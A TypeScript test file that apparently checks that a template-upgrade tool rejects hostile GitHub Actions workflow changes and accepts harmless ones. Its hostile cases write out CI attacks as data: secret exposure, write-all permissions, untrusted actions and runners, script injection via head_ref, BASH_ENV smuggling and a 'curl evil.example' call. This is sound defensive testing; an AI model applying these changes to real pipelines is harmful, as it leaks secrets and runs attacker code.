import {
  all,
  assessedChange,
  BUILD,
  causesOf,
  edit,
  type HarmlessCase,
  type HostileCase,
  managed,
  OTHER,
  version,
  withRepository,
  workflow,
} from './support/patches';

withRepository();

const HOSTILE: readonly HostileCase[] = [
  // workflows
  [
    'a new workflow that the manifest knows',
    'template',
    managed('.github/workflows/zz.yml', 'on: push\npermissions: {}\njobs: {}\n'),
    /puts no file there/,
  ],
  [
    'a workflow of the user',
    'template',
    all(version(), edit('.github/workflows/mine.yml', 'push', 'pull_request')),
    /it is yours/,
  ],
  ['another event', 'template', workflow(BUILD, 'merge_group: {}', 'pull_request_target: {}'), /by which it did not/],
  [
    'an event on other branches',
    'template',
    workflow('.github/workflows/deploy.yml', /- main/, "- '**'"),
    /starts otherwise by push/,
  ],
  ['a permission', 'template', workflow(BUILD, 'contents: read', 'contents: write'), /permission contents: write/],
  [
    'every permission',
    'template',
    workflow(BUILD, 'permissions: {}', 'permissions: write-all'),
    /permission all: write/,
  ],
  ['the permissions of the settings', 'template', workflow(BUILD, 'permissions: {}\n', ''), /permission all: write/],
  ['a secret', 'template', workflow(BUILD, 'CI: "true"', 'CI: ${{ secrets.UPGRADE_TOKEN }}'), /secret UPGRADE_TOKEN/],
  ['every secret', 'template', workflow(BUILD, 'CI: "true"', 'CI: ${{ toJSON(Secrets) }}'), /does not name/],
  [
    'a secret by another way to name it',
    'template',
    workflow(BUILD, 'CI: "true"', "CI: ${{ '}}' && secrets['UPGRADE_TOKEN'] }}"),
    /does not name/,
  ],
  [
    'an environment',
    'template',
    workflow(BUILD, 'name: Build\n', 'name: Build\n    environment: prod\n'),
    /another "environment"/,
  ],
  [
    'another action',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `evil/checkout@${OTHER} # v1.0.0`),
    /runs the action evil/,
  ],
  [
    'a commit of a fork of a known action',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `actions/checkout@${OTHER} # v9.0.0`),
    /runs the action actions\/checkout/,
  ],
  [
    'an action of the repository in a workflow',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, './.github/actions/x'),
    /runs the action/,
  ],
  ['another machine', 'template', workflow(BUILD, 'ubuntu-24.04', 'evil-runner'), /another machine/],
  [
    'a container',
    'template',
    workflow(BUILD, 'name: Build\n', 'name: Build\n    container: evil/image\n'),
    /another "container"/,
  ],
  [
    'a script that gets what others wrote',
    'template',
    workflow(BUILD, 'run: npx --no-install projen build', 'run: echo ${{ github.head_ref }}'),
    /expression into a script/,
  ],
  [
    'another script of a job that a pull request starts and that can write',
    'template',
    workflow(BUILD, 'gzip --stdout', 'curl evil.example; gzip --stdout'),
    /before anybody has looked/,
  ],
  [
    'settings around a job that can write',
    'template',
    workflow(BUILD, 'permissions: {}\n', 'permissions: {}\nenv:\n  BASH_ENV: app/x.sh\n'),
    /all of its jobs/,
  ],
  ['a workflow with anchors', 'template', workflow(BUILD, 'permissions: {}\n', 'permissions: &x {}\n'), /an anchor/],
  [
    'a workflow with a key twice',
    'template',
    workflow(BUILD, 'permissions: {}\n', 'permissions: {}\npermissions: write-all\n'),
    /unique|twice/i,
  ],
];

const HARMLESS: readonly HarmlessCase[] = [
  [
    'another script of a job that only reads',
    'template',
    workflow(BUILD, 'projen build', 'projen build --debug'),
    false,
  ],
  [
    'a release of an action that its repository has',
    'template',
    workflow(BUILD, /actions\/checkout@\w+ # v[\d.]+/, `actions/checkout@${OTHER} # v7.1.0`),
    false,
  ],
  [
    'a release of an action by an annotated tag',
    'template',
    workflow(BUILD, /actions\/setup-node@\w+ # v[\d.]+/, `actions/setup-node@${OTHER} # v7.1.0`),
    false,
  ],
  ['less permissions', 'template', workflow(BUILD, 'contents: read', 'contents: none'), false],
];

test.each(HOSTILE)('%s is not taken from an upgrade of %s', async (_why, kind, change, cause) => {
  expect(await causesOf(kind, change)).toMatch(cause);
});

test.each(HARMLESS)('%s is taken from an upgrade of %s', async (_why, kind, change, byItself) => {
  const { refusals, needsPerson } = await assessedChange(kind, change);
  expect(refusals).toEqual([]);
  expect(needsPerson === undefined).toBe(byItself);
});
